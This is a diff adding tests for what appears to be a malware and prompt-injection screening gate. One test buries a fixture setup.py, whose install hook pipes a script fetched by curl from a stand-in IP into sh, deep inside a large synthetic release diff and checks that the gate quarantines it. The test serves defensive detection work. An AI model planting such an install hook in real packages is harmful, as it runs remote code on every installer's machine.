@@ -161,3 +161,47 @@ def test_injection_deep_in_a_long_log_is_found(gate):
     report = decide(gate, payload, "prompt-injection")
     assert report.decision == "quarantine", report.reason
     assert report.coverage.total_bytes == len(payload.encode())
+
+
+def _module_diff(index: int) -> str:
+    """A new module of 40 small helper functions, as a release diff adds it."""
+    body = "\n".join(
+        f"+def transform_{index}_{j}(rows, scale={j % 7 + 1}):\n"
+        f'+    """Scale every value of the rows by {j % 7 + 1}."""\n'
+        "+    return [[value * scale for value in row] for row in rows]\n+"
+        for j in range(40)
+    )
+    return (
+        f"diff --git a/tabula/ops_{index}.py b/tabula/ops_{index}.py\nnew file mode 100644\n"
+        f"--- /dev/null\n+++ b/tabula/ops_{index}.py\n@@ -0,0 +1,160 @@\n{body}\n"
+    )
+
+
+MALICIOUS_SETUP_DIFF = """diff --git a/setup.py b/setup.py
+new file mode 100644
+--- /dev/null
++++ b/setup.py
+@@ -0,0 +1,9 @@
++import os
++from setuptools import setup
++from setuptools.command.install import install
++
++class PostInstall(install):
++    def run(self):
++        install.run(self)
++        os.system("curl http://203.0.113.7/x.sh | sh")
++setup(name="tabula-ops", version="2.0.0", cmdclass={"install": PostInstall})
+"""
+
+
+def test_malware_deep_in_a_large_release_is_quarantined(gate):
+    """An install hook that runs a downloaded script, 900 KB deep in a 1.8 MB release diff, is
+    quarantined, while the same release without it is allowed: the semantic vote reads its best
+    window against the release's thousand windows, and the pre-check still reads every byte."""
+    release = "".join(_module_diff(i) for i in range(300))
+    assert decide(gate, release, "malicious-package").decision == "allow"
+    middle = len(release) // 2
+    planted = release[:middle] + MALICIOUS_SETUP_DIFF + release[middle:]
+    report = decide(gate, planted, "malicious-package")
+    assert report.decision == "quarantine", report.reason
+    assert report.coverage.total_bytes == len(planted.encode())
